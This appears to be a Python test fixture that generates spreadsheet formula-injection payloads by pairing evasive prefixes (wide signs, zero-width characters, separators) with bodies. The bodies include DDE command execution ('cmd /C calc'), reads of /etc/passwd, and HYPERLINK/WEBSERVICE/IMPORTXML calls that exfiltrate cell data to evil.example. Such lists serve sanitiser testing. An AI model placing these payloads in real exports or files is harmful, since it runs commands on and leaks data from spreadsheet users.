"""Three hundred texts that a spreadsheet could take for a formula: what runs, behind whatever a reader may pass over or part a line at."""

from __future__ import annotations

_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"klik")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "SUM(1,1)",
    "'file:///etc/passwd'#$Sheet1.A1",
    'DDE("soffice";"/etc/passwd";"A1")',
    "2+5+cmd|' /C notepad'!'A1'",
    "INDIRECT(A1)",
    'CELL("filename")',
    "10+20",
)
_BEFORE = (
    *("=", "+", "-", "@", "=+", "=-", "+="),
    *("\uff1d", "\uff0b", "\u2212", "\uff20", "\ufe66"),  # as wide signs, a minus sign, a small equals sign
    *(" =", "\t=", "\r=", "\n=", "\u00a0=", "\u200b=", "\ufeff=", "'=", '"=', '""='),
    *("kata;=", "kata,=", "kata\t=", "kata|=", 'kata";=', "kata\n=", "kata\r\n="),
)

PAYLOADS: tuple[str, ...] = tuple(f"{before}{body}" for before in _BEFORE for body in _BODIES)
